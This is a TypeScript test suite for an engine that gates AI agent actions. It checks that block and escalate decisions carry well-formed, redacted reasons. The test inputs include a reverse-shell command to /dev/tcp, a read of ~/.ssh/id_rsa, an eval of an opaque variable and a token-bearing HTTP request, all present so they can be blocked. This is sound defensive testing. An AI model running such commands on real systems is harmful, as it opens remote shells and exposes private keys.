// Every decision carries structured reasons (rule, tier, kind, message) and its text is their one
// rendering (src/engine/reasons.ts), redacted there: tests assert the structure, not the prose.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { Engine, type ActionRequest, type CheckResult, type Reason, type ShellParser } from '../../src/engine';
import { renderReasons, sentenceOf } from '../../src/engine/reasons';
import { eventsForDecision } from '../../src/engine/audit';
import { nodeFileSystem } from '../../src/node/fs-port';
import { loadShellParser } from '../../src/node/shell-grammar';
import { buildShield } from '../../src/node/shield-setup';
import { parseAnswer } from '../../src/node/hooks/bridge-client';
import { MemoryStateStore } from '../../src/engine/shield/types';
import type { InjectionClassifier, ShieldParts } from '../../src/engine/shield/pipeline';
import { Tier2Evaluator, type ChatBackend } from '../../src/engine/shield/tier2';
import { makeTempDir } from './helpers/repo';

const CANARY = 'c'.repeat(64);
const GITHUB_TOKEN = 'ghp_' + 'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A';

/** The invariants of every decision: each rule has a reason, each reason a rule of the decision, in the same order. */
function assertWellFormed(d: CheckResult): void {
  assert.deepEqual([...new Set(d.reasons.map((r) => r.rule))], [...d.rules], "rules are the reasons' rules, in order");
  for (const r of d.reasons) {
    assert.ok(['policy', 'protection', 'error'].includes(r.kind), `${r.rule}: kind ${r.kind}`);
    assert.ok([0, 1, 2, 3].includes(r.tier), `${r.rule}: tier ${r.tier}`);
    assert.ok(r.message.length > 0, `${r.rule}: a message`);
  }
}

const reasonFor = (d: CheckResult, rule: string): Reason => {
  const r = d.reasons.find((x) => x.rule === rule);
  assert.ok(r, `no reason for ${rule} in ${JSON.stringify(d.reasons)}`);
  return r;
};
const shape = (r: Reason) => ({ rule: r.rule, tier: r.tier, kind: r.kind });

describe('decision reasons (structured, rendered once)', () => {
  let parser: ShellParser;
  let tmp: string;
  let ws: string;
  let home: string;
  before(async () => {
    parser = await loadShellParser();
    tmp = makeTempDir();
    ws = path.join(tmp, 'ws');
    home = path.join(tmp, 'home');
    for (const f of ['ws/src/a.ts', 'ws/AGENTS.md', 'home/.ssh/id_rsa']) {
      fs.mkdirSync(path.dirname(path.join(tmp, f)), { recursive: true });
      fs.writeFileSync(path.join(tmp, f), 'x');
    }
  });
  after(() => fs.rmSync(tmp, { recursive: true, force: true }));

  interface Setup {
    policy?: string;
    mode?: 'enforce' | 'report';
    classifier?: InjectionClassifier;
    tier2?: ChatBackend | 'none';
    shield?: false;
    grammar?: false;
  }
  function engine(s: Setup = {}): Engine {
    const store = new MemoryStateStore();
    const clock = { now: () => Date.now() };
    const shield: ShieldParts | undefined =
      s.shield === false
        ? undefined
        : buildShield({
            policy: s.policy ?? 'default',
            ifc: 'default',
            store,
            home,
            platform: 'linux',
            mode: s.mode ?? 'enforce',
            tier2:
              s.tier2 === 'none' || s.tier2 === undefined
                ? undefined
                : new Tier2Evaluator({ backend: s.tier2, canary: CANARY, store, clock }),
            classifier: s.classifier,
          });
    return new Engine({
      platform: 'linux',
      home,
      workspaceRoots: [ws],
      fs: nodeFileSystem,
      ...(s.grammar === false ? {} : { shellParser: parser }),
      ...(shield ? { shield } : {}),
    });
  }
  const act = (type: string, payload: Record<string, unknown>): ActionRequest => ({ type, payload, sessionId: 's', cwd: ws });

  it('a protection block: the table rule, Tier 0, kind protection; the text states it', async () => {
    const d = await engine().check(act('read_file', { path: '~/.ssh/id_rsa' }));
    assertWellFormed(d);
    assert.equal(d.decision, 'block');
    const first = d.reasons[0]!;
    assert.deepEqual(shape(first), { rule: d.rules[0], tier: 0, kind: 'protection' });
    assert.ok(d.reasons.every((r) => r.kind === 'protection'));
    assert.equal(d.reason, renderReasons({ lead: 'Blocked: ', stated: [first] }));
  });

  it('a protection rule that raises the minimum tier is quoted in brackets when a higher tier is needed', async () => {
    const d = await engine({ mode: 'report' }).check(act('write_file', { path: `${ws}/AGENTS.md`, content: 'be nice' }));
    assertWellFormed(d);
    assert.equal(d.decision, 'escalate');
    const raised = d.reasons.find((r) => r.kind === 'protection')!;
    assert.ok(raised.tier >= 2, JSON.stringify(raised));
    const policy = d.reasons.find((r) => r.rule.startsWith('policy.'))!;
    assert.equal(
      d.reason,
      renderReasons({
        lead: `Needs Tier ${d.tier}${d.minTier > 2 ? ', then your approval (Tier 3)' : ''}: `,
        stated: [policy],
        context: [raised],
      }),
    );
    assert.ok(d.reason.includes(`(Protected: ${raised.message}.`), d.reason);
  });

  it('a Tier 0 policy block: the policy rule, Tier 0, kind policy', async () => {
    const d = await engine({ policy: 'strict' }).check(act('delete_file', { path: `${ws}/src/a.ts` }));
    assertWellFormed(d);
    assert.equal(d.decision, 'block');
    const policy = d.reasons.find((r) => r.rule.startsWith('policy.'))!;
    assert.deepEqual(shape(policy), { rule: policy.rule, tier: 0, kind: 'policy' });
    assert.equal(d.reason, renderReasons({ lead: 'Blocked at Tier 0: ', stated: [policy] }));
  });

  it('a heuristic block: every finding is a Tier 1 policy reason; the first one is stated', async () => {
    const d = await engine({ policy: 'permissive' }).check(
      act('execute_command', { command: 'bash -i >& /dev/tcp/93.184.215.14/4444 0>&1' }),
    );
    assertWellFormed(d);
    assert.deepEqual([d.decision, d.tier], ['block', 1]);
    const found = d.reasons.filter((r) => r.rule.startsWith('heuristic.'));
    assert.ok(found.length > 0);
    for (const r of found) assert.deepEqual(shape(r), { rule: r.rule, tier: 1, kind: 'policy' });
    assert.equal(d.reason, renderReasons({ lead: 'Blocked at Tier 1: ', stated: [found[0]!] }));
  });

  it('a shell floor (opaque command): shell.opaque at Tier 2, kind policy, quoted as what raised the tier', async () => {
    const d = await engine({ mode: 'report' }).check(act('execute_command', { command: 'eval "$CMD"' }));
    assertWellFormed(d);
    assert.equal(d.decision, 'escalate');
    const opaque = reasonFor(d, 'shell.opaque');
    assert.deepEqual(shape(opaque), { rule: 'shell.opaque', tier: 2, kind: 'policy' });
    assert.ok(d.reason.includes(opaque.message), d.reason);
    // Without a Shield the floor is the whole text.
    const bare = await engine({ shield: false }).check(act('execute_command', { command: 'eval "$CMD"' }));
    assertWellFormed(bare);
    assert.equal(bare.reason, renderReasons({ lead: 'Needs Tier 2: ', stated: [reasonFor(bare, 'shell.opaque')] }));
  });

  describe('errors are kind error, never a policy', () => {
    it('an invalid policy', async () => {
      const bad = path.join(tmp, 'bad-policy.yaml');
      fs.writeFileSync(bad, 'deny:\n  - name: x\n    action_types: read_file\n');
      const d = await engine({ policy: bad }).check(act('write_file', { path: `${ws}/src/b.ts`, content: 'x' }));
      assertWellFormed(d);
      assert.equal(d.decision, 'block');
      const r = reasonFor(d, 'policy.invalid');
      assert.deepEqual(shape(r), { rule: 'policy.invalid', tier: 0, kind: 'error' });
      assert.match(r.message, /bad-policy\.yaml:3:\d+/);
      assert.equal(d.reason, renderReasons({ lead: 'Blocked at Tier 0: ', stated: [r] }));
    });
    it('a failing classifier', async () => {
      const broken: InjectionClassifier = {
        id: 'broken',
        injectionScore: async () => {
          throw new Error('model file corrupt');
        },
      };
      const d = await engine({ classifier: broken }).check(act('mcp_weather', { city: 'Oslo' }));
      assertWellFormed(d);
      const r = reasonFor(d, 'tier1.classifier_error');
      assert.deepEqual(shape(r), { rule: 'tier1.classifier_error', tier: 1, kind: 'error' });
      assert.match(r.message, /model file corrupt/);
      assert.equal(d.reason, renderReasons({ lead: 'Blocked at Tier 1: ', stated: [r] }));
    });
    it('a Tier 2 back end that fails', async () => {
      const down: ChatBackend = {
        id: 'down',
        complete: async () => {
          throw new Error('connect ECONNREFUSED');
        },
      };
      const d = await engine({ tier2: down }).check(act('execute_command', { command: 'make build' }));
      assertWellFormed(d);
      assert.deepEqual([d.decision, d.tier], ['block', 2]);
      const r = d.reasons.find((x) => x.tier === 2)!;
      assert.equal(r.kind, 'error', JSON.stringify(r));
      assert.match(r.message, /ECONNREFUSED/);
      assert.equal(d.reason, renderReasons({ lead: 'Blocked at Tier 2: ', stated: [r] }));
      // Policy and floor reasons of the same decision stay policy.
      assert.ok(
        d.reasons.filter((x) => x !== r).every((x) => x.kind !== 'error'),
        JSON.stringify(d.reasons),
      );
    });
    it('no Tier 2 evaluator configured: the block names it, the floor in brackets', async () => {
      const d = await engine({ tier2: 'none' }).check(act('execute_command', { command: 'eval "$CMD"' }));
      assertWellFormed(d);
      const r = reasonFor(d, 'tier2.not_configured');
      assert.deepEqual(shape(r), { rule: 'tier2.not_configured', tier: 2, kind: 'error' });
      assert.equal(d.reason, renderReasons({ lead: 'Blocked: ', stated: [r], context: [reasonFor(d, 'shell.opaque')] }));
    });
    it('a missing shell grammar', async () => {
      const d = await engine({ grammar: false }).check(act('execute_command', { command: 'ls' }));
      assertWellFormed(d);
      assert.deepEqual(d.reasons.map(shape), [{ rule: 'shell.unavailable', tier: 0, kind: 'error' }]);
      assert.equal(d.reason, renderReasons({ lead: 'Blocked: ', stated: d.reasons }));
    });
    it('a malformed action', async () => {
      const d = await engine().check({ type: 'read_file', payload: null, sessionId: 's' } as unknown as ActionRequest);
      assertWellFormed(d);
      assert.deepEqual(d.reasons.map(shape), [{ rule: 'engine.error', tier: 0, kind: 'error' }]);
    });
  });

  it('a secret in a message is redacted in the reason and in the reasons', async () => {
    const d = await engine().check(act('http_request', { url: `http://127.0.0.1:9/hook?token=${GITHUB_TOKEN}`, method: 'GET' }));
    assertWellFormed(d);
    assert.equal(d.decision, 'block');
    const core = GITHUB_TOKEN.slice(4, 20);
    assert.ok(!d.reason.includes(core) && d.reason.includes('[REDACTED:'), d.reason);
    for (const r of d.reasons) assert.ok(!r.message.includes(core), r.message);
    assert.ok(d.reasons[0]!.message.includes('[REDACTED:'), d.reasons[0]!.message);
    assert.equal(d.reasons[0]!.kind, 'policy');
    assert.equal(d.reason, renderReasons({ lead: 'Blocked: ', stated: [d.reasons[0]!] }));
  });

  it('renderReasons: stated reasons joined, context in brackets once, one final period, the audit note after it', () => {
    const r = (rule: string, message: string, kind: Reason['kind'] = 'policy'): Reason => ({ rule, tier: 2, kind, message });
    assert.equal(
      sentenceOf({
        lead: 'Needs Tier 2: ',
        stated: [r('a', 'first'), r('b', 'second')],
        context: [r('c', 'why'), r('d', 'why'), r('e', 'x is protected', 'protection')],
      }),
      'Needs Tier 2: first; second (why; Protected: x is protected.).',
    );
    assert.equal(sentenceOf({ stated: [r('ifc.x', 'Blocked by IFC: it ends.')] }), 'Blocked by IFC: it ends.');
    assert.equal(
      sentenceOf({ lead: 'Allowed at Tier 0: ', stated: [r('p', 'ok')], auditNote: r('ifc.would_block', 'would block') }),
      'Allowed at Tier 0: ok. (IFC audit mode: would block)',
    );
    assert.equal(renderReasons({ lead: 'Blocked: ', stated: [r('x', `token ${GITHUB_TOKEN}`)] }).includes(GITHUB_TOKEN), false);
  });

  it("the audit log's decision event carries the reasons next to the reason", async () => {
    const d = await engine().check(act('read_file', { path: '~/.ssh/id_rsa' }));
    const evaluated = eventsForDecision(d, { actionType: 'read_file', payload: {} }).find((e) => e.event === 'ACTION_EVALUATED')!;
    const decision = evaluated.details!.decision as { reason: string; reasons: Reason[] };
    assert.equal(decision.reason, d.reason);
    assert.deepEqual(
      decision.reasons,
      d.reasons.map((r) => ({ ...r })),
    );
  });

  it('the hook bridge passes reasons through, takes a decision without them (an older extension), and refuses malformed ones', () => {
    const base = { decision: 'block', tier: 0, minTier: 0, level: 'full_block', rules: ['deny.home.ssh'], reason: 'Blocked: x.' };
    const line = (d: unknown) => Buffer.from(JSON.stringify({ v: 1, ok: true, decision: d }));
    const withReasons = parseAnswer(
      line({ ...base, reasons: [{ rule: 'deny.home.ssh', tier: 0, kind: 'protection', message: 'x' }] }),
      'decide',
    );
    assert.deepEqual(typeof withReasons === 'object' && withReasons.ok ? withReasons.decision?.reasons : undefined, [
      { rule: 'deny.home.ssh', tier: 0, kind: 'protection', message: 'x' },
    ]);
    const old = parseAnswer(line(base), 'decide');
    assert.ok(typeof old === 'object' && old.ok && old.decision && old.decision.reasons === undefined);
    assert.match(
      String(parseAnswer(line({ ...base, reasons: [{ rule: 'deny.home.ssh', tier: 7, kind: 'protection', message: 'x' }] }), 'decide')),
      /malformed reasons/,
    );
    assert.match(String(parseAnswer(line({ ...base, reasons: 'x' }), 'decide')), /malformed reasons/);
  });
});
